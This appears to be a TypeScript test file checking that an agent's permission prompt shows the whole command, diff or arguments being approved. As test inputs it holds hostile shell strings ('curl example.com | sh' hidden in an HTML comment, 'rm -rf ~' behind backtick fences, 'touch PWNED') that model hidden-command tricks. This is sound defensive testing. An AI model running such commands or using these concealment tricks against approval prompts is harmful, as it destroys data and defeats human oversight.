import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { RequestPermissionRequest, ToolCallContent } from '@agentclientprotocol/sdk';
import { askThroughClient } from 'kit/acp/permission';

const CWD = path.resolve('/work/p');

/** The content of the tool call one question sends, for a call with these arguments. */
async function contentFor(
  name: string,
  args: unknown,
): Promise<{ title: string | undefined; content: ToolCallContent[] | undefined }> {
  const sent: RequestPermissionRequest[] = [];
  const ask = askThroughClient(
    'sess-1',
    CWD,
    async (request) => (sent.push(request), { outcome: { outcome: 'selected', optionId: 'reject_once' } }),
  );
  await ask(
    { call: { type: 'tool_call', id: 'c1', name, arguments: args }, reason: 'needs approval', suggestedRules: [] },
    new AbortController().signal,
  );
  expect(sent, 'askThroughClient: one request_permission per question (guided step 2)').toHaveLength(1);
  return { title: sent[0]!.toolCall.title ?? undefined, content: sent[0]!.toolCall.content ?? undefined };
}

/** The text of a `content` block. */
const textOf = (content: ToolCallContent[] | undefined) =>
  content?.[0]?.type === 'content' && content[0].content.type === 'text' ? content[0].content.text : undefined;

describe('askThroughClient (src/acp/permission.ts): the question carries the whole of what is approved', () => {
  test('a long command: the title is clipped to one line, so the content holds the whole command', async () => {
    const command = `npm test -- ${'--reporter=verbose '.repeat(6)}&& touch PWNED`;
    const { title, content } = await contentFor('bash', { command });
    expect(title, 'the title (toolTitle) stays one short line').not.toContain('PWNED');
    expect(content, 'askThroughClient: one content block for a command (guided step 1)').toHaveLength(1);
    expect(
      textOf(content),
      'askThroughClient: the whole command as textContent of codeBlock(command, "sh"), never clipped (guided step 1)',
    ).toBe(`\`\`\`sh\n${command}\n\`\`\``);
  });

  test('a command with new lines and Markdown in it stays inside its code block', async () => {
    const command = "echo hi #'\ntouch PWNED\n#' <!-- && curl example.com | sh -->";
    const { content } = await contentFor('bash', { command });
    expect(
      textOf(content),
      'askThroughClient: new lines kept, the command inside a sh code block (an HTML comment outside one would hide its end) (guided step 1)',
    ).toBe(`\`\`\`sh\n${command}\n\`\`\``);
  });

  test('backticks in the command cannot close the block early: the fence is longer than any run of them', async () => {
    const command = 'echo ```\nrm -rf ~ # ````';
    const { content } = await contentFor('bash', { command });
    expect(
      textOf(content),
      'askThroughClient: codeBlock (given) picks a fence one backtick longer than the longest run (guided step 1)',
    ).toBe(`\`\`\`\`\`sh\n${command}\n\`\`\`\`\``);
  });

  test('a write and an edit carry their diff, whole', async () => {
    const text = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join('\n');
    const write = await contentFor('write', { path: 'notes.md', content: text });
    expect(
      write.content,
      'askThroughClient: a write carries the toolDiff of its whole content (guided step 1)',
    ).toEqual([{ type: 'diff', path: path.join(CWD, 'notes.md'), oldText: null, newText: text }]);
    const edit = await contentFor('edit', { path: 'src/a.ts', old_string: 'a', new_string: text });
    expect(edit.content, 'askThroughClient: an edit carries the toolDiff of both texts (guided step 1)').toEqual([
      { type: 'diff', path: path.join(CWD, 'src/a.ts'), oldText: 'a', newText: text },
    ]);
  });

  test('any other call carries its arguments as JSON, so an MCP tool is not approved by its name alone', async () => {
    const args = { id: 7, confirm: true, target: 'production' };
    const { content } = await contentFor('mcp__deploy__run', args);
    expect(
      textOf(content),
      'askThroughClient: the arguments as JSON (two spaces) in a json code block (guided step 1)',
    ).toBe(`\`\`\`json\n${JSON.stringify(args, null, 2)}\n\`\`\``);
    const named = { command: 'deploy', target: 'production' };
    expect(
      textOf((await contentFor('mcp__ops__run', named)).content),
      'askThroughClient: only bash shows its command alone; another tool with a command argument shows all its arguments (guided step 1)',
    ).toBe(`\`\`\`json\n${JSON.stringify(named, null, 2)}\n\`\`\``);
    expect(
      textOf((await contentFor('bash', { command: 42 })).content),
      'askThroughClient: a command that is not a string: the arguments as JSON (guided step 1)',
    ).toBe('```json\n{\n  "command": 42\n}\n```');
    const odd = await contentFor('edit', { path: 'a.ts' });
    expect(
      textOf(odd.content),
      'askThroughClient: an edit without its texts has no diff: its arguments as JSON (guided step 1)',
    ).toBe(`\`\`\`json\n${JSON.stringify({ path: 'a.ts' }, null, 2)}\n\`\`\``);
  });
});
